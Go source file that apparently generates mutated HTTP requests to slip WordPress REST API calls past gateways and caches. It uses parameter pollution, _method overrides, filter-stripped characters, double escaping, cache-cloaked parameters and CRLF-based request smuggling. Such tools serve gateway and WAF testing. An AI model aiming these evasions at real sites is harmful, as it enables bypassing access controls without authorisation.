package grammar

import (
	"fmt"
	"net/http"
	"strings"
)

// onTheWay changes a request by what caches, servers and settings of PHP between a gateway and
// the platform make something else of.
func (g *Generator) onTheWay(r *Request, aim *Aim) {
	pick(g, g.twice, g.bodyOfGet, g.tagged, g.shifted, g.escapedTwice, g.lineEnds, g.cut, g.chained)(r, aim)
}

// twice names a variable that stands in query or form once more, with another value.
func (g *Generator) twice(r *Request, aim *Aim) {
	r.note("a variable twice")
	pair := g.spelled(pick(g, "rest_route", "_method", "id", "a")) + "=" + pick(g, aim.Decoy, aim.Route, "GET", aim.Method, "7", aim.Object)
	if isForm(r) && g.oneIn(2) {
		r.Body = pick(g, pair+"&"+r.Body, r.Body+"&"+pair)
		return
	}
	path, query, _ := strings.Cut(r.Target, "?")
	r.Target = path + "?" + pick(g, pair+"&"+query, query+"&"+pair, pair+"&"+pair)
}

func isForm(r *Request) bool {
	for _, f := range r.Fields {
		if f.Name == "Content-Type" {
			return f.Value == formType
		}
	}
	return false
}

// bodyOfGet gives a GET another method and a body, which some caches drop.
func (g *Generator) bodyOfGet(r *Request, aim *Aim) {
	r.note("a body with a GET beside _method")
	r.Method, r.Fields = http.MethodGet, nil
	r.Target = aim.Base + pick(g, "/wp-json"+aim.Route+"?", "/?rest_route="+aim.Route+"&", "/?rest_route="+aim.Decoy+"&") + "_method=" + aim.Method
	id := pick(g, aim.Object, "7")
	if g.oneIn(2) {
		r.add("Content-Type", formType)
		r.Body = pick(g, "id="+id, "rest_route="+aim.Route, "_method="+aim.Method)
		return
	}
	r.add("Content-Type", pick(g, "application/json", "text/plain"))
	r.Body = pick(g, `{"id":"`+id+`"}`, `{"rest_route":"`+aim.Route+`"}`)
}

// put writes text somewhere into the target or a form, mostly into a word that decides.
func (g *Generator) put(r *Request, aim *Aim, text string) {
	into := &r.Target
	if isForm(r) && g.oneIn(2) {
		into = &r.Body
	}
	at := g.IntN(len(*into) + 1)
	word := pick(g, "rest_route", "rest_route", "wp-json", aim.namespace(), "_method")
	if i := strings.Index(*into, word); i >= 0 && !g.oneIn(3) {
		at = i + 1 + g.IntN(len(word)-1)
	}
	*into = (*into)[:at] + text + (*into)[at:]
}

// tagged puts in what a filter of PHP takes out (filter.default).
func (g *Generator) tagged(r *Request, aim *Aim) {
	r.note("what a filter takes out")
	tag := pick(g, "<b>", "%3Cb%3E", "<", "%3C", "%60", "%01", "%00", "'", "%22", "<<b>\">\">", "%3C?a%3E", "<!--->")
	if len(r.Fields) > 0 && g.oneIn(4) {
		f := &r.Fields[g.IntN(len(r.Fields))]
		at := g.IntN(len(f.Value) + 1)
		f.Value = f.Value[:at] + pick(g, "<b>", "`", "'", "\t") + f.Value[at:]
		return
	}
	if g.oneIn(8) {
		at := g.IntN(len(r.Method) + 1)
		r.Method = r.Method[:at] + "`" + r.Method[at:]
		return
	}
	if strings.HasPrefix(r.Target, aim.Base+"/wp-json") && g.oneIn(2) { // PATH_INFO
		r.Target = aim.Base + "/index.php" + r.Target[len(aim.Base):]
	}
	g.put(r, aim, tag)
}

// shifted puts in what is gone once PHP has converted it (mbstring.encoding_translation).
func (g *Generator) shifted(r *Request, aim *Aim) {
	r.note("a shift between sets of characters")
	g.put(r, aim, pick(g, "%1B(B", "%1b(J", "%0E", "%0F", "%1B%28B", "%1B"))
}

// escapedTwice writes a byte of the target as an escape that is escaped, or whose digits are.
func (g *Generator) escapedTwice(r *Request, _ *Aim) {
	if r.Target == "" {
		return
	}
	r.note("an escape that is escaped")
	at := g.IntN(len(r.Target))
	digits := fmt.Sprintf("%02x", r.Target[at])
	escaped := pick(g, "%25"+digits, "%25"+strings.ToUpper(digits), "%2525"+digits, fmt.Sprintf("%%%%%02x%%%02x", digits[0], digits[1]), fmt.Sprintf("%%%%%02x%c", digits[0], digits[1]))
	r.Target = r.Target[:at] + escaped + r.Target[at+1:]
}

// lineEnds puts the end of a line into a path, and what may be a header or a request behind it.
func (g *Generator) lineEnds(r *Request, aim *Aim) {
	r.note("the end of a line in a path")
	path, query, asks := strings.Cut(r.Target, "?")
	at := g.IntN(len(path) + 1)
	behind := pick(g, "", "X-HTTP-Method-Override:"+aim.Method, "%20HTTP/1.1", "%20HTTP/1.1%0d%0aHost:a%0d%0a%0d%0aGET%20/wp-json"+aim.Route+"%20HTTP/1.1%0d%0aHost:a%0d%0a%0d%0a")
	r.Target = path[:at] + pick(g, "%0d%0a", "%0a", "%0D", "%250d%250a") + behind + path[at:]
	if asks {
		r.Target += "?" + query
	}
}

// cut puts in a parameter that caches cut out of an address.
func (g *Generator) cut(r *Request, aim *Aim) {
	r.note("a parameter that caches cut out")
	name := pick(g, "utm_source", "gclid", "utm_x", "fbclid")
	if g.oneIn(2) {
		r.Target = aim.Base + pick(g, "/?rest_route&"+name+"=x="+aim.Route, "/?"+name+"=x+rest_route="+aim.Route, "/?rest_r"+name+"=x&oute="+aim.Route, "/?rest_route="+aim.Decoy+"&"+name+"=x/.."+aim.Route)
		return
	}
	at := strings.IndexByte(r.Target, '?') + 1
	at += g.IntN(len(r.Target) - at + 1)
	r.Target = r.Target[:at] + pick(g, "&"+name+"=x", name+"=x&", name+"=x", "&"+name+"=x&") + r.Target[at:]
}
